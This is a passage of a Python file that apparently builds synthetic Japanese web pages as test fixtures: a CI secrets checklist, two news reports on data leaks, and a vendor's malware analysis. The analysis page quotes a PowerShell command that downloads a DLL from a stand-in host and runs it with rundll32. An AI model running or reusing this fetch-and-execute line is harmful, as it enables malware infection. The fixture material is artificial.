# -*- coding: utf-8 -*-
"""Japanese pages, part 3."""
from hp_parts import *  # noqa


def ja_qiita_like():
    name = 'ja_qiita_like'
    rng = random.Random(name)
    N = Namer('hash', name)
    host = 'techlog-share.example'
    url = 'https://%s/tanuki_dev/items/5c2e9a0b7d31f84e6a12' % host
    title = 'GitHub Actionsのワークフローから秘密情報を漏らさないために確認している7つのこと'
    pub = jst(2026, 2, 9, 12, 31)
    blocks = [
        ('h', 'はじめに'),
        ('p', '社内のリポジトリでCIの設定を見直す機会があったので、ワークフローから秘密情報（APIキーやクラウドの認証情報）が漏れる経路と、その対策をチェックリストとしてまとめました。'),
        ('p', '前提として、この記事ではGitHub ActionsとAWSを組み合わせた構成を想定しています。ほかのCIサービスでも考え方はほぼ同じです。'),
        ('h', 'チェックリスト'),
        ('h', '1. 長期間有効なアクセスキーを置いていないか', 3),
        ('p', 'リポジトリのシークレットに `AWS_ACCESS_KEY_ID` と `AWS_SECRET_ACCESS_KEY` を登録している場合は、OIDCによる一時的な認証情報に切り替えることを強くおすすめします。キーそのものが存在しなければ、漏れることもありません。'),
        ('p', '現在登録されているシークレットは次のコマンドで一覧できます。'),
        ('pre', '$ gh secret list --repo example-org/web-app\nAWS_ACCESS_KEY_ID Updated 2024-03-11\nAWS_SECRET_ACCESS_KEY Updated 2024-03-11\nSLACK_WEBHOOK_URL Updated 2025-08-02'),
        ('h', '2. GITHUB_TOKENの権限を絞っているか', 3),
        ('p', 'ワークフローの先頭で `permissions` を明示していない場合、組織の設定によっては `GITHUB_TOKEN` に書き込み権限が付与されます。既定値を読み取り専用にしたうえで、必要なジョブだけに権限を追加しましょう。'),
        ('h', '3. pull_request_targetを安易に使っていないか', 3),
        ('p', '`pull_request_target` イベントは、フォークからのプルリクエストでもシークレットにアクセスできる状態で実行されます。このイベントの中でプルリクエスト側のコードをチェックアウトして実行すると、外部の人が書いたコードにシークレットを渡すことになります。'),
        ('h', '4. サードパーティのアクションをコミットハッシュで固定しているか', 3),
        ('p', 'タグ指定（`@v4` など）は、タグが付け替えられると中身が変わります。信頼できる公式のアクション以外は、コミットハッシュで固定しておくのが安全です。'),
        ('h', '5. ログに秘密情報を出力していないか', 3),
        ('p', 'シークレットとして登録した値はログ上でマスクされますが、値を加工（Base64エンコードや一部の切り出し）した文字列はマスクされません。デバッグ用の出力が残っていないか確認しましょう。'),
        ('h', '6. 成果物やキャッシュに設定ファイルが含まれていないか', 3),
        ('p', 'ビルドの成果物として `.env` ファイルや認証情報を含む設定ファイルをアップロードしていないかを確認します。成果物はリポジトリの閲覧権限があれば誰でもダウンロードできます。'),
        ('h', '7. 過去のコミットにキーが残っていないか', 3),
        ('p', '最後に、リポジトリの履歴全体をスキャンします。私たちのチームでは次のコマンドを定期的に実行しています。'),
        ('pre', '$ gitleaks detect --source . --redact --report-path gitleaks.json\n$ jq length gitleaks.json\n0'),
        ('p', '見つかった場合は、履歴から削除するだけでなく、必ずキー自体を無効化してください。一度公開されたキーは、すでに誰かに取得されている前提で対応する必要があります。'),
        ('h', 'おわりに'),
        ('p', 'どれも一つ一つは地味な確認ですが、実際のインシデントの多くはこうした基本的な設定の漏れから起きています。ほかにも確認している項目があれば、コメントで教えてもらえるとうれしいです。'),
    ]
    body = render(blocks, 'ja', h_tag='h2', h3_tag='h3', pre_cls=None, h_ids=True)
    body = body.replace('<pre>', '<div class="code-frame" data-lang="text"><div class="highlight"><pre>').replace('</pre>', '</pre></div></div>')
    heads = ja_headlines(rng, 12, 0.0)
    trend = [('Rustで書いたCLIツールを社内配布するまで', 'rust_taro', 341), ('PostgreSQLのインデックスを見直したら検索が40倍速くなった', 'pg_hanako', 512),
             ('TypeScriptの型パズルを卒業するための設計の考え方', 'ts_jiro', 288), ('新人エンジニアに最初に教えているGitの使い方', 'git_sensei', 1033),
             ('Terraformのstateを安全に分割する', 'iac_lover', 176), ('Dockerイメージを小さくするためにやったこと全部', 'container_kun', 402),
             ('ログ設計のアンチパターン集', 'logger_x', 221), ('障害対応の振り返りを書くときのテンプレート', 'sre_memo', 390)]
    cmts = '\n'.join('<div class="%s"><div class="%s"><a href="/%s">@%s</a><span>%s</span></div><div class="%s"><p>%s</p></div><button class="%s">いいね %d</button></div>' % (
        N('comment'), N('comment', 'header'), u, u, '2026年02月%d日' % rng.randint(9, 20), N('comment', 'body'), esc(t), N('comment', 'like'), rng.randint(0, 30)) for u, t in [
        ('ci_otaku', 'とても参考になりました。3番は本当にハマりやすいですよね。うちのチームでも以前、外部からのプルリクエストでシークレットが使われかけたことがあります。'),
        ('secops_yu', 'チェックリストに「Environmentの保護ルールで本番デプロイに承認を必須にする」も加えるとよいかもしれません。'),
        ('tanuki_dev', '@secops_yu ありがとうございます！確かにそれも大事ですね。追記を検討します。'),
        ('newbie_eng', '4番のコミットハッシュ固定、Dependabotで更新できるのを知らずに手動でやっていました……'),
        ('cloud_ops_m', 'OIDCへの移行、最初は難しそうに見えたけど、やってみたら30分で終わりました。おすすめです。')])
    page = '''
<body>
<div id="root">
<div class="%s">
<header class="%s"><a href="/" class="%s">TechLog Share</a><form class="%s"><input placeholder="キーワードを入力" type="search"></form><a href="/login" class="%s">ログイン</a><a href="/signup" class="%s">新規登録</a></header>
<div class="%s">
<div class="%s">
<aside class="%s"><button class="%s" aria-label="いいね">%s<span>284</span></button><button class="%s" aria-label="ストック">%s<span>ストック</span></button>%s</aside>
<article class="%s">
<div class="%s"><a href="/tanuki_dev"><img src="https://cdn.%s/avatars/tanuki_dev.png" alt="" width="24"><span>@tanuki_dev(たぬき)</span></a><span>in</span><a href="/organizations/example-org">Example Org株式会社</a></div>
<div class="%s"><time datetime="%s">投稿日 2026年02月09日</time><time>更新日 2026年02月12日</time></div>
<h1 class="%s">%s</h1>
<div class="%s">%s</div>
<section class="it-MdContent %s">
%s
</section>
<div class="%s"><button>いいね 284</button><button>ストック</button><button>記事を報告</button></div>
<div class="%s"><img src="https://cdn.%s/avatars/tanuki_dev.png" alt="" width="48"><div><p class="%s">@tanuki_dev(たぬき)</p><p>Example Org株式会社でSREをしています。CI/CDとクラウドの権限管理が好きです。</p><button>フォロー</button></div></div>
<section class="%s" id="comments"><h2>コメント</h2>
%s
<div class="%s"><p>ログインするとコメントできます</p><a href="/login">ログイン</a></div>
</section>
<section class="%s"><h2>この記事にいいねしたユーザー</h2><ul>%s</ul></section>
</article>
<aside class="%s">
<section class="%s"><h2>目次</h2><ol>%s</ol></section>
<section class="%s"><h2>トレンド記事</h2><ol>%s</ol></section>
%s
</aside>
</div>
</div>
%s
</div>
</div>
<script id="js-react-on-rails-context" type="application/json">%s</script>
</body>''' % (
        N('app'), N('header'), N('header', 'logo'), N('header', 'search'), N('header', 'login'), N('header', 'signup'),
        N('main'), N('grid'), N('actions'), N('actions', 'like'), svg_icon(rng, 'like'), N('actions', 'stock'), svg_icon(rng, 'stock'), share_buttons(rng, N, 'ja', url),
        N('article'), N('article', 'author'), host, N('article', 'dates'), iso(pub), N('article', 'title'), esc(title),
        N('article', 'tags'), ''.join('<a href="/tags/%s" class="%s">%s</a>' % (t.lower(), N('tag'), t) for t in ['GitHub', 'GitHubActions', 'CI', 'AWS', 'セキュリティ']),
        N('article', 'body'), body, N('article', 'actions'), N('author-card'), host, N('author-card', 'name'),
        N('comments'), cmts, N('comments', 'login'), N('likers'),
        ''.join('<li><a href="/%s"><img src="https://cdn.%s/avatars/%s.png" alt="%s" width="32"></a></li>' % (u, host, u, u) for u in ['ci_otaku', 'secops_yu', 'newbie_eng', 'cloud_ops_m'] + ['user%03d' % i for i in range(40)]),
        N('side'), N('toc'), ''.join('<li><a href="#sec%d">%s</a></li>' % (i + 1, esc(itext(b[1]))) for i, b in enumerate([b for b in blocks if b[0] == 'h'])),
        N('trend'), ''.join('<li><a href="/%s/items/%s"><span>%s</span><span>@%s</span><span>いいね %d</span></a></li>' % (u, rand_id(rng, 20), esc(t), u, c) for t, u, c in trend),
        related_list(rng, N, 'ja', heads[:6], '関連記事', teasers=True),
        site_footer(rng, N, 'ja', 'TechLog Share Inc.', cols=3),
        js({'railsEnv': 'production', 'locale': 'ja', 'serverSide': False, 'href': url, 'i18nLocale': 'ja', 'currentUser': None, 'flags': {f: rng.choice([True, False]) for f in ['newEditor', 'ai_summary', 'dark']}}))
    desc = '社内のリポジトリでCIの設定を見直す機会があったので、ワークフローから秘密情報が漏れる経路と対策をまとめました。'
    state = {'article': {'uuid': '5c2e9a0b7d31f84e6a12', 'title': title, 'likesCount': 284, 'stockCount': 190, 'tags': ['GitHub', 'GitHubActions', 'CI', 'AWS', 'セキュリティ'],
                         'author': {'urlName': 'tanuki_dev', 'name': 'たぬき', 'followersCount': 812}},
             'trend': [{'title': t, 'user': u, 'likes': c, 'excerpt': 'この記事では、%sについて実際の経験をもとに解説します。' % t} for t, u, c in trend * 4]}
    head = '\n'.join([
        '<meta charset="utf-8">', '<title>%s #GitHubActions - TechLog Share</title>' % esc(title),
        '<meta name="description" content="%s">' % attr(desc), '<link rel="canonical" href="%s">' % url,
        common_head_links(rng, host, 6), og_meta(title, desc, url, 'https://%s/og/%s.png' % (host, rand_id(rng, 10)), 'TechLog Share', pub=pub),
        '<style>%s</style>' % page_css(rng, N, 800, ['it-MdContent', 'code-frame', 'highlight']),
        gtm_snippet('GTM-TLS001'),
        '<script type="application/json" id="js-react-props">%s</script>' % js(state),
    ])
    return dict(name=name, url=url, content_type=None, encoding='UTF-8', title=title, published=pub,
                author='tanuki_dev', language='ja', canonical_url=url, blocks=blocks, html=doc('ja', head, page),
                layout='Developer Q&A/article platform (hashed CSS-module classes): markdown-rendered h2/h3 with ids, <pre> inside code frames, like/stock rail, tags above title, author card, comments, liker avatars, TOC and trend sidebar.')


def ja_portal_news():
    name = 'ja_portal_news'
    rng = random.Random(name)
    N = Namer('hash', name)
    host = 'news.yomiyasu-portal.example'
    url = 'https://%s/articles/7b1e4c02d95a3f8e6c10aa4b2d7e9f1c3a5b6d80' % host
    title = '市役所で職員が個人情報含むファイルを誤って公開　市民約3千人分'
    pub = jst(2026, 2, 24, 11, 52)
    blocks = [
        ('p', 'さくら台市は24日、市のホームページに掲載した会議資料に、市民約3千人分の氏名や住所などを含むファイルが誤って添付されていたと発表した。約2週間にわたって誰でも閲覧できる状態だった。'),
        ('p', '市によると、ファイルは子育て支援課の職員が作成した表計算ソフトのデータで、公開用の集計表と同じファイルの別のシートに、児童手当の受給者の一覧が残っていた。2月9日から23日まで掲載され、この間に約40回ダウンロードされていた。市民からの指摘で発覚した。'),
        ('p', '市は対象の市民に謝罪の文書を送るとともに、公開前に複数の職員でファイルの中身を確認する手順を徹底するとしている。'),
        ('raw', '<div class="%s"><p>【関連記事】</p><ul>%s</ul></div>' % (N('article', 'related'), ''.join(
            '<li><a href="/articles/%s">%s</a></li>' % (rand_id(rng, 40), esc(t)) for t in [
                '隣接市でも個人情報の誤公開　表計算ファイルの「非表示シート」に注意', '自治体の情報漏えい、昨年度は過去最多に　総務省まとめ', '「メール誤送信」を防ぐには　専門家に聞く対策']))),
    ]
    body = render(blocks, 'ja', p_cls=N('article', 'paragraph'))
    heads = ja_headlines(rng, 60, 0.6)
    comments = comments_section(rng, N, 'ja', 64, 'コメント', k_range=(1, 4))
    page = '''
<body>
<div id="wrapper" class="%s">
<header id="yp-header" class="%s"><div class="%s"><a href="https://www.yomiyasu-portal.example/">よみやすポータル</a><a href="/">ニュース</a></div>
<ul class="%s"><li><a href="/">トップ</a></li><li><a href="/categories/domestic">国内</a></li><li><a href="/categories/world">国際</a></li><li><a href="/categories/business">経済</a></li><li><a href="/categories/entertainment">エンタメ</a></li><li><a href="/categories/sports">スポーツ</a></li><li><a href="/categories/it">IT</a></li><li><a href="/categories/science">科学</a></li><li><a href="/categories/local">地域</a></li></ul>
<form class="%s"><input type="search" placeholder="ニュースを検索"></form></header>
%s
<div id="contentsWrap" class="%s">
<div id="uamods" class="%s">
<article id="uamods-article" class="%s">
<header class="%s"><h1 class="%s">%s</h1>
<div class="%s"><a href="/media/minato"><img src="https://s.%s/media/minato.png" alt="みなと新聞" width="80" height="20"></a><time>2/24(火) 11:52</time><span>配信</span></div>
<div class="%s"><a href="#comments">%s<span>コメント%d件</span></a></div>
</header>
%s
<div class="%s">
%s
</div>
<footer class="%s"><p class="%s">みなと新聞</p><p>最終更新:2/24(火) 12:15</p>%s<a href="/report">記事に関する報告</a></footer>
</article>
%s
<section class="%s"><h2>%s</h2>%s</section>
%s
</div>
<div id="yjSNLiveSide" class="%s">
%s
%s
%s
%s
%s
</div>
</div>
%s
</div>
</body>''' % (
        N('page'), N('header'), N('header', 'brand'), N('header', 'nav'), N('header', 'search'),
        ad_slot(rng, N, 'ja', 'ad-yp-top', (970, 90)), N('contents'), N('main'), N('article'), N('article', 'header'), N('article', 'title'), esc(title),
        N('article', 'source'), host, N('article', 'commentlink'), svg_icon(rng, 'comment'), 64,
        ad_slot(rng, N, 'ja', 'ad-yp-inread', (300, 250)), N('article', 'body'), body, N('article', 'footer'), N('article', 'provider'),
        share_buttons(rng, N, 'ja', url), pr_teasers(rng, N, 'ja', 6),
        N('comment-wrap'), '「このコメントは、記事を読んだ人が投稿したものです」', comments,
        related_list(rng, N, 'ja', heads[:8], 'この記事を読んだ人はこんな記事も', teasers=True),
        N('side'), ad_slot(rng, N, 'ja', 'ad-yp-side', (300, 600)), ranking(rng, N, 'ja', heads[8:28], 'アクセスランキング（国内）'),
        ranking(rng, N, 'ja', heads[28:38], 'コメントランキング'),
        '<section class="%s"><h2>トピックス</h2><ul>%s</ul></section>' % (N('topics'), ''.join('<li><a href="/pickup/%d">%s</a></li>' % (6000000 + i, esc(t)) for i, (t, _, _) in enumerate(heads[38:46]))),
        pr_teasers(rng, N, 'ja', 4), site_footer(rng, N, 'ja', 'Yomiyasu Portal Corporation', cols=6))
    head = '\n'.join([
        '<meta charset="utf-8">', '<title>%s（みなと新聞） - よみやすニュース</title>' % esc(title),
        '<meta name="description" content="%s">' % attr(blocks[0][1]), common_head_links(rng, host, 10),
        og_meta(title + '（みなと新聞）', blocks[0][1][:60], url, 'https://s.%s/og/%s.jpg' % (host, rand_id(rng, 10)), 'よみやすニュース', pub=pub),
        '<style>%s</style>' % page_css(rng, N, 900),
        gtm_snippet('GTM-YMYS09'), consent_script(), ad_loader(rng, ['ad-yp-top', 'ad-yp-inread', 'ad-yp-side']),
        '<script>window.__PRELOADED_STATE__ = %s;</script>' % js(make_state(rng, 'ja', ja_headlines(rng, 60, 0.6), host, {
            'articleDetail': {'id': '7b1e4c02d95a3f8e6c10aa4b2d7e9f1c3a5b6d80', 'mediaName': 'みなと新聞', 'headline': title, 'commentCount': 64}})),
        news_ld(title, url, pub, author='みなと新聞', author_type='Organization', publisher='よみやすニュース', logo='https://s.%s/logo.png' % host),
    ])
    return dict(name=name, url=url, content_type=None, encoding='UTF-8', title=title, published=pub,
                author=None, language='ja', canonical_url=None, blocks=blocks, html=doc('ja', head, page),
                layout='Portal news (Yahoo!-like, hashed classes): 3-paragraph body followed by a 【関連記事】 link list in the same container, provider line, 64 comments far longer than the article, two rankings, PR teasers.')


def ja_regional_eucjp():
    name = 'ja_regional_eucjp'
    rng = random.Random(name)
    N = Namer('none', name)
    host = 'www.minase-nippo.example'
    url = 'http://%s/news/20260218/shakai_04.html' % host
    title = '給食費システムに不正アクセス　水無瀬町、保護者の口座情報閲覧の恐れ'
    pub = jst(2026, 2, 18, 6, 0)
    blocks = [
        ('p', '水無瀬町は17日、町立小中学校の給食費を管理するシステムが外部から不正アクセスを受け、保護者約1,900人分の氏名や銀行口座番号が閲覧された恐れがあると発表した。現時点で口座の不正利用は確認されていないという。'),
        ('p', '町教育委員会によると、システムは町が民間業者に委託して運用しているクラウドサービス。業者が1月末に定期点検を行った際、海外のIPアドレスから管理者用のアカウントでログインした記録が複数見つかった。'),
        ('p', '管理者用アカウントのパスワードは、システムを導入した2019年から一度も変更されておらず、業者の複数の社員が共有していた。町は、何らかの方法でパスワードが外部に漏れたとみて、業者と共に詳しい経緯を調べている。'),
        ('p', '閲覧された恐れがあるのは、2019年度以降に給食費を口座振替で支払っていた保護者の氏名、住所、電話番号、金融機関名、口座番号。町は対象の保護者に文書で連絡し、身に覚えのない引き落としがないか確認するよう呼びかけている。'),
        ('p', '町は18日から、教育委員会に専用の問い合わせ窓口を設ける。森下和彦町長は「町民の皆さまに大変なご心配をおかけし、おわび申し上げる。委託先の管理を含め、再発防止を徹底したい」とのコメントを出した。'),
    ]
    body = render(blocks, 'ja', indent_ja=True, wrap=38)
    heads = ja_headlines(rng, 40, 0.8)
    okuyami = '<br>\n'.join('%s　%s（%d）%s' % (x, y, rng.randint(60, 99), z) for x, y, z in [
        ('水無瀬町', '佐藤ハナ', '葬儀は20日午前11時から町民ホール'), ('川辺市', '高橋正男', '葬儀は19日午後1時から川辺斎場'),
        ('水無瀬町', '伊藤キヨ', '葬儀は近親者で済ませた'), ('北川村', '山本茂', '葬儀は21日午前10時から自宅'), ('川辺市', '中島トミ', '葬儀は20日正午から市営斎場')])
    page = '''<body bgcolor="#FFFFFF" topmargin="0" leftmargin="0">
<center>
<table width="980" border="0" cellpadding="0" cellspacing="0">
<tr><td colspan="3"><a href="/"><img src="/img/head_logo.gif" width="980" height="90" border="0" alt="みなせ日報"></a></td></tr>
<tr><td colspan="3" bgcolor="#003F7D"><table border="0" cellpadding="4" cellspacing="0"><tr>%s</tr></table></td></tr>
<tr><td colspan="3" align="center">%s</td></tr>
<tr>
<td width="160" valign="top" bgcolor="#F0F4F8">
<table width="160" border="0" cellpadding="3">%s</table>
</td>
<td width="560" valign="top">
<div class="pankuzu"><a href="/">トップ</a> &gt; <a href="/news/shakai/">社会</a> &gt; 記事</div>
<div class="news-head">
<h1><font size="5">%s</font></h1>
<p class="hiduke">2026年2月18日（水）</p>
</div>
<table border="0" cellpadding="0" cellspacing="6" align="right" width="240"><tr><td><img src="/photo/20260218/shakai_04.jpg" width="240" height="160" alt="記者会見する町教育委員会の担当者"></td></tr><tr><td><font size="2">記者会見で経緯を説明する町教育委員会の担当者＝17日、水無瀬町役場</font></td></tr></table>
<div class="honbun">
%s
</div>
<br clear="all">
<div class="kanren"><b>関連記事</b><ul>%s</ul></div>
<div class="ad-box">%s</div>
</td>
<td width="260" valign="top">
%s
<div class="side-box"><b>主要ニュース</b><ul>%s</ul></div>
<div class="side-box"><b>おくやみ</b><p><font size="2">%s</font></p></div>
<div class="side-box"><b>きょうの天気</b><table border="1" cellpadding="2"><tr><th>地域</th><th>天気</th><th>最高</th><th>最低</th></tr>%s</table></div>
</td>
</tr>
<tr><td colspan="3" bgcolor="#EEEEEE" align="center"><font size="2">%s<br>
本サイトに掲載の記事・写真の無断転載を禁じます。Copyright (C) The Minase Nippo. All rights reserved.</font></td></tr>
</table>
</center>
</body>''' % (
        ''.join('<td><a href="/news/%s/"><font color="#FFFFFF"><b>%s</b></font></a></td>' % (k, v) for k, v in [('top', 'トップ'), ('shakai', '社会'), ('seiji', '政治'), ('keizai', '経済'), ('sports', 'スポーツ'), ('chiiki', '地域'), ('kurashi', 'くらし'), ('okuyami', 'おくやみ'), ('photo', '写真')]),
        ad_slot(rng, N, 'ja', 'ad-head', (728, 90)),
        ''.join('<tr><td><font size="2"><a href="/area/%s/">%s</a></font></td></tr>' % (rand_id(rng, 4, 'abcdefgh'), a) for a in ['水無瀬町', '川辺市', '北川村', '南浜町', '大野市', '山田町', '白石村', '東郷町', '西川市', '青山町', '県政', '選挙', '教育', '医療・福祉', '事件・事故', '農林水産', '観光', '文化', '高校スポーツ', '読者の声']),
        esc(title), body,
        ''.join('<li><a href="/news/%s.html">%s</a></li>' % (s, esc(t)) for t, _, s in heads[:5]),
        ad_slot(rng, N, 'ja', 'ad-article', (300, 250)), ad_slot(rng, N, 'ja', 'ad-side', (250, 250)),
        ''.join('<li><a href="/news/%s.html">%s</a><br><font size="2">%s</font></li>' % (s, esc(t), esc(tz_)) for t, tz_, s in heads[5:25]),
        okuyami, ''.join('<tr><td>%s</td><td>%s</td><td>%d</td><td>%d</td></tr>' % (a, rng.choice(['晴れ', 'くもり', '雪', '雨のち晴れ']), rng.randint(3, 12), rng.randint(-4, 3)) for a in ['水無瀬', '川辺', '北川', '南浜', '大野']),
        ' | '.join('<a href="/%s.html">%s</a>' % (rand_id(rng, 5, 'abcdefgh'), x) for x in ['会社概要', '購読のお申し込み', '広告のご案内', '個人情報保護方針', 'リンクについて', 'お問い合わせ']))
    head = '\n'.join([
        '<meta http-equiv="Content-Type" content="text/html; charset=EUC-JP">',
        '<title>%s | みなせ日報</title>' % esc(title),
        '<meta name="description" content="%s">' % attr(blocks[0][1][:70]),
        '<link rel="stylesheet" href="/css/base.css" type="text/css">',
        '<style type="text/css">\n<!--\n%s\n-->\n</style>' % css_blob(rng, ['honbun', 'kanren', 'pankuzu', 'hiduke', 'news-head', 'side-box', 'ad-box', 'ad', 'ad-label'], 220, media=False),
        '<script type="text/javascript" src="/js/jquery-1.4.2.min.js"></script>',
        "<script type=\"text/javascript\">\nvar _gaq = _gaq || [];\n_gaq.push(['_setAccount', 'UA-000000-1']);\n_gaq.push(['_trackPageview']);\n(function() {var ga = document.createElement('script'); ga.type = 'text/javascript'; ga.async = true;ga.src = 'http://stats.metrics.example/ga.js';var s = document.getElementsByTagName('script')[0]; s.parentNode.insertBefore(ga, s);})();\n</script>",
        ad_loader(rng, ['ad-head', 'ad-article', 'ad-side']),
    ])
    return dict(name=name, url=url, content_type=None, encoding='EUC-JP', title=title, published=pub,
                author=None, language='ja', canonical_url=None, blocks=blocks, html=doc('ja', head, page, doctype='<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN">'),
                layout='Regional newspaper in EUC-JP (meta http-equiv), 3-column <table> layout with romaji classes (honbun, kanren, hiduke): photo table with caption floated beside the body, indented hard-wrapped paragraphs, obituary and weather side boxes.')


def ja_vendor_blog_eucjp():
    name = 'ja_vendor_blog_eucjp'
    rng = random.Random(name)
    N = Namer('none', name)
    host = 'blog.hikari-shield.example'
    url = 'http://%s/2026/02/hikariloader.html' % host
    title = '請求書を装ったメールで拡散する「HikariLoader」の解析'
    pub = jst(2026, 2, 16, 14, 30)
    blocks = [
        ('p', '2月上旬から、国内の企業を狙って、請求書の送付を装ったメールでマルウェアを感染させようとする攻撃が続いています。本エントリでは、このメールに添付されていたファイルから感染するマルウェア(当社では「HikariLoader」と呼んでいます)の動作を解説します。'),
        ('h', 'メールの特徴'),
        ('p', 'メールの件名は「【ご確認】2月分ご請求書の送付について」「請求書再発行のお知らせ」など複数の種類が確認されています。本文は自然な日本語で書かれており、実在する取引先の担当者名が署名に使われていた例もありました。'),
        ('p', '確認されたメールのヘッダの一部を次に示します(受信者のアドレスは伏せています)。'),
        ('pre', 'From: "経理部 請求書担当" <billing@invoice-notice.example>\nSubject: =?ISO-2022-JP?B?...?= (【ご確認】2月分ご請求書の送付について)\nX-Mailer: Microsoft Outlook 16.0\nContent-Type: multipart/mixed; boundary="----=_NextPart_000_0012"'),
        ('h', '感染までの流れ'),
        ('ol', ['添付されたZIPファイルを展開すると、PDFのアイコンに偽装したショートカットファイルが現れる',
                'ショートカットを開くと、PowerShellが実行され、外部のサーバからDLLファイルがダウンロードされる',
                'ダウンロードされたDLLが正規のプログラムに読み込まれ、HikariLoaderとして動作を始める',
                'HikariLoaderは感染端末の情報を送信した後、指令に応じて別のマルウェアを追加でダウンロードする']),
        ('p', 'ショートカットファイルに埋め込まれていたコマンドは次のとおりです。難読化を一部解除しています。'),
        ('pre', 'powershell -w hidden -c "iwr https://cdn-update.example/a/inv.dll -OutFile $env:TEMP\\u.dll; rundll32 $env:TEMP\\u.dll,Start"'),
        ('h', '永続化と通信'),
        ('p', 'HikariLoaderは、ユーザーのログオン時に自動で起動するよう、タスクスケジューラに「OneDriveSyncHelper」という名前のタスクを登録します。正規のプログラムを装った名前のため、一覧を見ただけでは気付きにくくなっています。'),
        ('p', '通信先のサーバとはHTTPSでやり取りし、約10分ごとに指令を問い合わせます。確認した範囲では、追加で情報窃取型のマルウェアが送り込まれていました。'),
        ('h', '侵害の痕跡(IoC)'),
        ('table', [['種類', '値'], ['ファイル(SHA-256)', '3f1c9a0e5b7d2c4a8e6f1b3d5c7a9e0f2b4d6c8a0e1f3b5d7c9a1e3f5b7d9c0a'],
                   ['ファイル(SHA-256)', 'a9e1c3f5b7d9e0a2c4e6f8b0d2a4c6e8f0b2d4a6c8e0f2b4d6a8c0e2f4b6d8a1'],
                   ['通信先', 'cdn-update.example'], ['通信先', '198.51.100.77'], ['タスク名', 'OneDriveSyncHelper']]),
        ('h', '対策'),
        ('ul', ['ZIPファイル内のショートカットファイル(.lnk)をメールゲートウェイで遮断する', 'PowerShellの実行ログを有効にし、不審なダウンロードを監視する',
                '請求書に関するメールは、送信元に電話など別の手段で確認する']),
        ('p', '当社の製品では、本エントリで紹介したファイルを「Trojan.HikariLoader」として検出します。'),
    ]
    body = render(blocks, 'ja', h_tag='h3', ind='')
    entries = ['偽の荷物追跡アプリを配布するSMSの観測状況(2026年1月)', '2025年に観測した脅威の振り返り', 'VPN装置を狙う攻撃の増加について',
               '年末年始に注意したいサイバー攻撃', 'ブラウザーの偽更新画面からの感染事例', 'QRコードを使ったフィッシング(クィッシング)の動向',
               '情報窃取型マルウェアのログ売買市場', '中小企業を狙うビジネスメール詐欺の手口']
    cmts = ''.join('<div class="comment"><div class="comment-content"><p>%s</p></div><div class="comment-footer">投稿者: %s | 2026年02月%d日 %02d:%02d</div></div>' % (
        esc(t), esc(u), rng.randint(16, 20), rng.randint(0, 23), rng.randint(0, 59)) for u, t in [
        ('システム管理者', '弊社にも同じ件名のメールが届いていました。IoCの公開ありがとうございます。早速ブロックリストに追加しました。'),
        ('kei', 'ショートカットファイルの遮断、メールゲートウェイで設定できるか確認してみます。'),
        ('情報システム部', 'タスク名が正規のものに見えるのは厄介ですね。社内の端末を調べたところ、該当するタスクは見つかりませんでした。')])
    page = '''<body class="mt-entry-archive layout-two-column-right">
<div id="container"><div id="container-inner">
<div id="header"><div id="header-inner"><div id="header-content">
<div id="header-name"><a href="http://%s/" accesskey="1">ひかりシールド セキュリティブログ</a></div>
<div id="header-description">ひかりシールド株式会社 脅威解析センターによる最新の脅威情報</div>
</div></div></div>
<div id="nav"><ul><li><a href="http://www.hikari-shield.example/">企業サイト</a></li><li><a href="http://www.hikari-shield.example/products/">製品情報</a></li><li><a href="http://www.hikari-shield.example/support/">サポート</a></li><li><a href="http://%s/">ブログトップ</a></li></ul></div>
<div id="content"><div id="content-inner">
<div id="alpha"><div id="alpha-inner">
<div id="entry-1542" class="entry-asset asset hentry">
<div class="asset-header">
<h1 id="page-title" class="asset-name entry-title">%s</h1>
<div class="asset-meta"><span class="byline">投稿者: <span class="vcard author">脅威解析センター 村井</span> | <abbr class="published" title="2026-02-16T14:30:00+09:00">2026年2月16日 14:30</abbr></span></div>
</div>
<div class="asset-content entry-content">
<div class="asset-body">
%s
</div>
</div>
<div class="asset-footer">
<div class="entry-categories"><h4>カテゴリ<span class="delimiter">:</span></h4><ul><li><a href="/threat/" rel="tag">脅威解析</a></li><li><a href="/mail/" rel="tag">メール</a></li></ul></div>
<div class="entry-tags"><h4>タグ<span class="delimiter">:</span></h4><ul><li><a href="/tag/HikariLoader" rel="tag">HikariLoader</a></li><li><a href="/tag/IoC" rel="tag">IoC</a></li><li><a href="/tag/phishing" rel="tag">ばらまき型メール</a></li></ul></div>
</div>
</div>
<div id="trackbacks" class="trackbacks"><h2 class="trackbacks-header">トラックバック(0)</h2><div class="trackbacks-info"><p>このブログ記事を参照しているブログ一覧: %s</p><p>このブログ記事に対するトラックバックURL: http://%s/mt/mt-tb.cgi/1542</p></div></div>
<div id="comments" class="comments"><h2 class="comments-header">コメント(3)</h2><div class="comments-content">%s</div>
<div class="comments-open" id="comments-open"><h2 class="comments-open-header">コメントする</h2><form method="post" action="/mt/mt-comments.cgi" name="comments_form" id="comments-form"><input type="hidden" name="entry_id" value="1542"><label>名前</label><input name="author"><label>コメント</label><textarea name="text" rows="8" cols="50"></textarea><input type="submit" value="投稿"></form></div></div>
<div class="content-nav"><a href="/2026/02/sms-jan.html">&laquo; 偽の荷物追跡アプリを配布するSMSの観測状況(2026年1月)</a> | <a href="/">メインページ</a> | <a href="/2026/02/vpn-attacks.html">VPN装置を狙う攻撃の増加について &raquo;</a></div>
</div></div>
<div id="beta"><div id="beta-inner">
<div class="widget-search widget"><h3 class="widget-header">検索</h3><div class="widget-content"><form method="get" action="/mt/mt-search.cgi"><input id="search" name="search" size="20"><input type="submit" value="検索"></form></div></div>
<div class="widget-recent-entries widget"><h3 class="widget-header">最近のブログ記事</h3><div class="widget-content"><ul>%s</ul></div></div>
<div class="widget-archive widget"><h3 class="widget-header">月別アーカイブ</h3><div class="widget-content"><ul>%s</ul></div></div>
<div class="widget-categories widget"><h3 class="widget-header">カテゴリ</h3><div class="widget-content"><ul>%s</ul></div></div>
<div class="widget-syndication widget"><div class="widget-content"><ul><li><a href="/atom.xml">このブログを購読</a></li></ul></div></div>
</div></div>
</div></div>
<div id="footer"><div id="footer-inner"><div id="footer-content"><p>Copyright (C) 2008-2026 Hikari Shield Co., Ltd. All rights reserved.</p><p>Powered by Movable Type 4.38</p></div></div></div>
</div></div>
</body>''' % (
        host, host, esc(title), body, esc(title), host, cmts,
        ''.join('<li><a href="/2026/%s.html">%s</a></li>' % (rand_id(rng, 6), esc(e)) for e in entries),
        ''.join('<li><a href="/%d/%02d/">%d年%d月</a></li>' % (y, m, y, m) for y in (2026, 2025, 2024, 2023, 2022) for m in range(12, 0, -1) if not (y == 2026 and m > 2)),
